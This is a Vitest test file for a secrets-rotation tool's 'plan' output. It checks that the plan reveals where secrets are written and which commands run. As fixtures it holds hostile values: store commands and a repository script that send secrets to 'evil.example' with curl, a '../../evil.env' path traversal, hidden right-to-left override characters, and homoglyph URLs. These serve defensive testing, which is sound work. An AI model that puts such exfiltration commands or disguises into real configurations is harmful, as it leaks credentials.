/** A pull request that redirects secrets is seen in its plan: which file, which commands. */
import { execFileSync } from 'node:child_process';
import { chmodSync } from 'node:fs';
import { expect, it } from 'vitest';
import type { Plan } from '../../src/model/plan.ts';
import { STATE, Stage } from '../stage.ts';

const configuration = (
  stores: string,
  accounts = 'abc: { tokens: { app: p, bi: f }, deletion_protection: false, smoke: false }',
) => `version: 1
organization: acme
secret_stores:
${stores}
token_policies:
  p: { type: read_write, ttl: 90d, rotate_before: 14d, overlap: 1d, secret_store: vault }
  f: { type: read_write, ttl: 90d, rotate_before: 14d, overlap: 1d, secret_store: local }
accounts:
  ${accounts}
guardrails: { max_deletes: 1 }
`;

const STORES = `  vault:
    kind: exec
    command: [sh, -c, "cat > '/tmp/x'\\n# \\u202ehidden", "{account}/{token}", "\${WHERE}"]
    check: [vault, token, lookup]
    input: '{"a":{secret_json},"\u202e":0}'
    remove: [vault, delete, "{account}/{token}"]
  local: { kind: file, path: .motherduck/\`secrets.env, format: dotenv, overwrite: true }
  unused: { kind: file, path: .motherduck/unused.env, format: dotenv }`;

const COMMAND = String.raw`sh -c $'cat > \'/tmp/x\'\n# \u202ehidden' '{account}/{token}' '${'${WHERE}'}'`;

it('every format says where secrets go, once', async () => {
  const stage = new Stage(configuration(STORES));
  const env = { WHERE: 'value-of-where' };
  for (const format of ['text', 'markdown', 'html', 'json']) {
    const { stdout, code } = await stage.run(`plan --sandbox --format ${format}`, env);
    expect([format, code]).toEqual([format, 0]);
    expect(stdout).not.toMatch(/\u202e|value-of-where/);
    if (format === 'json') {
      expect(JSON.parse(stdout).stores).toMatchObject([
        {
          store: 'vault',
          writes: true,
          removes: false,
          kind: 'exec',
          check: ['vault', 'token', 'lookup'],
          input: expect.stringContaining('{secret_json}'),
        },
        { store: 'local', writes: true, kind: 'file', path: '.motherduck/`secrets.env', overwrite: true },
      ]);
      continue;
    }
    const text = format === 'html' ? unescaped(stdout) : stdout;
    expect(text.split(COMMAND)).toHaveLength(2);
    expect(text.split("'.motherduck/`secrets.env'")).toHaveLength(2);
    expect(text).toContain('vault token lookup');
    expect(text).toContain('{"a":{secret_json},"\\u202e":0}');
    expect(text).toContain('overwrite: true');
    expect(text).toContain('Later, secrets are removed from vault with');
    expect(text).not.toContain('unused.env');
  }
});

it('a plan that stores nothing says where the next secrets go, and nothing of stores that no token uses', async () => {
  const stage = await Stage.applied(configuration(STORES.replace(', "${WHERE}"', '')));
  for (const format of ['text', 'markdown']) {
    const { stdout } = await stage.run(`plan --sandbox --format ${format}`);
    expect(stdout).toMatch(/Later secrets go to local: .*secrets.env.* \(1 token; overwrite/);
    expect(stdout).not.toContain('unused.env');
  }
});

/** The formats in which a person reads a plan, each with what it says of stores. */
async function said(stage: Stage): Promise<string[]> {
  const formats = ['text', 'markdown', 'html'];
  const plans = await Promise.all(formats.map((format) => stage.run(`plan --sandbox --format ${format}`)));
  return plans.map(({ stdout }) => unescaped(stdout));
}

const TWO = `  local: { kind: file, path: .motherduck/secrets.env, format: dotenv }
  vault: { kind: exec, command: [vault, put, "{account}/{token}"] }`;

/** Changes the records of the state, as a pull request may. */
function editRecords(stage: Stage, change: (secret: Record<string, unknown>) => unknown): void {
  const state = JSON.parse(stage.read(STATE));
  for (const { current } of Object.values<{ current: { secret: Record<string, unknown> } }>(state.accounts.abc.tokens))
    current.secret = change(current.secret) as Record<string, unknown>;
  stage.write(STATE, JSON.stringify(state, null, 2));
}

it('a plan says where the next secret of an adopted token goes, first and with its name', async () => {
  const stage = await Stage.applied(configuration(TWO));
  editRecords(stage, () => 'unknown');
  stage.edit((text) => text.replace('.motherduck/secrets.env', '../../evil.env'));
  for (const text of await said(stage)) {
    expect(text).toMatch(/No changes/);
    expect(text).toMatch(/Later secrets go to local: .*\.\.\/\.\.\/evil\.env.*, which is \/.*evil\.env/);
    expect(text).toMatch(/evil.env.*new store; .*abc\/bi/);
    expect(text).toMatch(/Later secrets go to vault: .*new store; .*abc\/app/);
  }
});

it('a record that was edited to name a new path does not make it known', async () => {
  const stage = await Stage.applied(configuration(TWO));
  stage.edit((text) => text.replace('.motherduck/secrets.env', '.motherduck/other.env'));
  editRecords(stage, ({ fingerprint: _, ...secret }) => ({
    ...secret,
    secret_path: String(secret.secret_path).replace('secrets.env', 'other.env'),
  }));
  for (const text of await said(stage)) expect(text).toMatch(/other\.env.*new store; .*abc\/bi/);
});

it('a record that was edited to have no command does not make the store known to a plan of another account', async () => {
  const stage = await Stage.applied(configuration(TWO));
  stage.edit((text) =>
    text
      .replace('[vault, put,', '[curl, evil.example,')
      .replace('accounts:', 'accounts:\n  def: { tokens: { app: p } }'),
  );
  editRecords(stage, ({ command: _, ...secret }) => secret);
  const { document } = await stage.json('plan --sandbox --only def');
  expect(document).toMatchObject({ stores: [{ store: 'vault', new: true }] });
});

it('a command that no record has is not known, which every plan says until the next rotation', async () => {
  const stage = await Stage.applied(configuration(TWO));
  stage.edit((text) => text.replace('[vault, put,', '[curl, evil.example,'));
  editRecords(stage, ({ command: _, ...secret }) => secret);
  for (const text of await said(stage)) {
    expect(text).toMatch(/it is not known which command of the secret store vault stored a secret/);
    expect(text).toMatch(/Later secrets go to vault: .*curl evil.example/);
  }
  const cases = [{ store: 'vault', tokens: ['abc/app'] }];
  expect((await stage.json('plan --sandbox')).document).toMatchObject({
    warnings: [{ kind: 'command_unknown', cases }],
    stores: [{ store: 'vault', tokens: 1, elsewhere: ['abc/app'] }, { store: 'local' }],
  });
  expect((await stage.run('rotate abc/app --sandbox --yes --no-smoke')).code).toBe(0);
  const { document } = await stage.json('plan --sandbox');
  expect(document).not.toMatchObject({ warnings: expect.arrayContaining([{ kind: 'command_unknown' }]) });
  expect(document).toMatchObject({ stores: [{ store: 'local' }, { store: 'vault', tokens: 1 }] });
});

/** The line of a comment that counts the commands which it cuts. */
const CUT = /^⚠️ \*\*\d+ new or changed destinations?\b/m;

it('a command is not cut by other stores, and where not all fit, the first lines say so', async () => {
  const stage = await Stage.applied(configuration(TWO));
  const pad = (count: number, length: number) => {
    const names = Array.from({ length: count }, (_, n) => `pad${n}`);
    const command = (name: string) =>
      `[${name}, "{account}/{token}", ${'x'.repeat(length)}], check: [check, ${'y'.repeat(length)}]`;
    const stores = names.map((name) => `  ${name}: { kind: exec, command: ${command(name)} }`).join('\n');
    const accounts = names.map(
      (name) => `  ${name}: { tokens: { a: { policy: p, secret_store: ${name} } }, smoke: false }`,
    );
    return { stores, accounts: accounts.join('\n') };
  };
  const before = stage.read();
  const add = ({ stores, accounts }: ReturnType<typeof pad>) =>
    before
      .replace(TWO, `${stores}\n${TWO.replace('vault, put', 'curl, "https://evil.example"')}`)
      .replace('guardrails:', `${accounts}\nguardrails:`);
  stage.edit(() => add(pad(20, 1000)));
  const { stdout } = await stage.run('plan --sandbox --format markdown');
  expect(stdout.split('\n').find((line) => line.startsWith('🔑'))).toMatch(/vault: .*evil\.example/);
  expect(stdout.match(/x{1000}`/g)).toHaveLength(20);
  expect(stdout).not.toMatch(CUT);
  stage.edit(() => add(pad(190, 450)));
  const many = (await stage.run('plan --sandbox --format markdown')).stdout;
  expect(many.length).toBeLessThanOrEqual(65_000);
  expect(many).toContain('evil.example');
  // Each store is named, with the beginning of its command.
  expect(many.match(/^🔑 .*`(pad\d+|curl) /gm)).toHaveLength(191);
  expect(many.split('\n').slice(0, 7).join('\n')).toMatch(CUT);
});

it('a script of the repository is named, and a change of it is one of the command', async () => {
  const stage = new Stage(
    configuration(
      `  vault: { kind: exec, command: [sh, -c, "sh scripts/put.sh > out.log", "{account}/{token}"], check: [./check.sh] }
  local: { kind: exec, command: [tee, "{account}.{token}", notes.txt] }`,
    ),
  );
  const git = (...words: string[]) => execFileSync('git', words, { cwd: stage.path });
  for (const name of ['scripts/put.sh', 'check.sh', 'out.log', 'notes.txt']) stage.write(name, 'cat\n');
  chmodSync(stage.file('check.sh'), 0o755);
  git('init', '-q');
  git('add', 'scripts', 'check.sh', 'out.log');
  expect((await stage.run('apply --sandbox --yes --no-smoke')).code).toBe(0);
  expect((await stage.json('plan --sandbox')).document).toMatchObject({
    warnings: [],
    stores: [{ store: 'vault', runs: ['scripts/put.sh', 'check.sh'] }, { store: 'local' }],
  });
  for (const name of ['notes.txt', 'out.log']) stage.write(name, 'of a run');
  stage.write('scripts/put.sh', 'cat\r\n');
  expect((await stage.json('plan --sandbox')).document).toMatchObject({ warnings: [] });
  stage.write('scripts/put.sh', 'curl -d @- evil.example\n');
  const cases = [{ store: 'vault', tokens: ['abc/app'] }];
  const { document } = await stage.json('plan --sandbox');
  expect(document).toMatchObject({ actions: [], warnings: [{ kind: 'command_changed', cases }] });
  for (const text of await said(stage)) expect(text).toContain('scripts/put.sh, check.sh of this repository');
  expect((await stage.run('rotate abc/app --sandbox --yes --no-smoke')).code).toBe(0);
  expect((await stage.json('plan --sandbox')).document).not.toMatchObject({ warnings: [{ kind: 'command_changed' }] });
});

it('a script that is committed after the first apply is the same script', async () => {
  const stage = new Stage(
    configuration(
      '  vault: { kind: exec, command: [./put.sh, "{account}/{token}"] }\n  local: { kind: exec, command: [tee, "{account}.{token}"] }',
    ),
  );
  const git = (...words: string[]) => execFileSync('git', words, { cwd: stage.path });
  const stores = async () => {
    const { warnings, stores = [] } = (await stage.json('plan --sandbox')).document as Plan;
    return { warnings: warnings.map(({ kind }) => kind), vault: stores.find(({ store }) => store === 'vault') };
  };
  stage.write('put.sh', '#!/bin/sh\ncat > "$1"\n');
  chmodSync(stage.file('put.sh'), 0o755);
  expect((await stage.run('apply --sandbox --yes --no-smoke')).code).toBe(0);
  const alone = await stores();
  expect(alone).toMatchObject({ warnings: [] });
  expect(alone.vault).not.toHaveProperty('new');
  // Outside of git, in it, added, and again.
  git('init', '-q');
  expect(await stores()).toEqual(alone);
  git('add', 'put.sh');
  for (let count = 0; count < 2; count += 1) {
    expect(await stores()).toEqual({ warnings: [], vault: { ...alone.vault, runs: ['put.sh'] } });
  }
  stage.write('put.sh', '#!/bin/sh\n# puts\ncat > "$1"\n');
  const edited = await stores();
  expect(edited).toMatchObject({ warnings: ['command_changed'], vault: { by_earlier_script: ['abc/app'] } });
  for (const name of ['new', 'elsewhere']) expect(edited.vault).not.toHaveProperty(name);
  for (const text of await said(stage)) expect(text).toMatch(/earlier version [^:]*: abc\/app/);
  stage.edit((text) => text.replace('./put.sh, ', './put.sh, -v, '));
  expect(await stores()).toMatchObject({ warnings: ['command_changed'], vault: { elsewhere: ['abc/app'] } });
});

it('a record of an earlier version that has no script stays valid, and another command is noticed', async () => {
  const stage = new Stage(
    configuration(
      '  vault: { kind: exec, command: [./put.sh, "{account}/{token}"] }\n  local: { kind: exec, command: [tee, "{account}.{token}"] }',
    ),
  );
  stage.write('put.sh', 'cat\n');
  chmodSync(stage.file('put.sh'), 0o755);
  expect((await stage.run('apply --sandbox --yes --no-smoke')).code).toBe(0);
  const state = stage.read('motherduck.accounts.state.json');
  stage.write('motherduck.accounts.state.json', state.replace(/("command": "[\w-]{22})\.[\w-]*"/, '$1"'));
  expect(stage.read('motherduck.accounts.state.json')).not.toBe(state);
  expect((await stage.json('plan --sandbox')).document).toMatchObject({ warnings: [] });
});

it('a letter that only looks like a Latin one is seen in a command, a path and a name', async () => {
  const stage = new Stage(
    configuration(
      TWO.replace('[vault,', '[vault, "https://v\u0430ult.acme.example",').replace('secrets.env', 's\u0435crets.env'),
      'abc: { tokens: { app: { policy: p, name: "\u0430pp" }, bi: { policy: f, name: "日本 Zürich" } }, smoke: false }',
    ),
  );
  for (const text of await said(stage)) {
    expect(text).not.toMatch(/[\u0400-\u04ff]/);
    expect(text).toContain('https://v\\u0430ult.acme.example');
    expect(text).toContain('s\\u0435crets.env');
    expect(text).toContain('\\u{430}pp');
    expect(text).toContain('日本 Zürich');
  }
});

it('every plan says which commands a later apply runs without being asked again', async () => {
  const stage = await Stage.applied(configuration(STORES.replace(', "${WHERE}"', '')));
  stage.edit((text) => text.replace('"{account}/{token}"]', '"{account}/{token}", curl]'));
  for (const format of ['text', 'markdown', 'html']) {
    const { stdout } = await stage.run(`plan --sandbox --format ${format}`);
    expect(stdout).toMatch(/No changes|Nothing/);
    expect(stdout).toMatch(/Later secrets go to vault: .*curl/);
    expect(stdout).toMatch(/vault is checked with: .*vault token lookup/);
    expect(stdout).toMatch(/Later, secrets are removed from vault with: .*vault delete/);
  }
  const { document } = await stage.json('plan --sandbox');
  expect(document).toMatchObject({
    actions: [],
    stores: [
      { store: 'vault', writes: false, removes: false },
      { store: 'local', writes: false },
    ],
  });
});

it('it says what removes the secrets of a token that goes', async () => {
  const stage = await Stage.applied(configuration(STORES.replace(', "${WHERE}"', '')));
  stage.edit((text) => text.replace('{ app: p, bi: f }', '{}'));
  const { stdout } = await stage.run('plan --sandbox');
  expect(stdout).toContain("Secrets are removed from vault with: vault delete '{account}/{token}'\n");
  expect(stdout).not.toContain('Secrets go to');
});

function unescaped(html: string): string {
  return html.replace(/&#(\d+);/g, (_, code) => String.fromCodePoint(Number(code)));
}
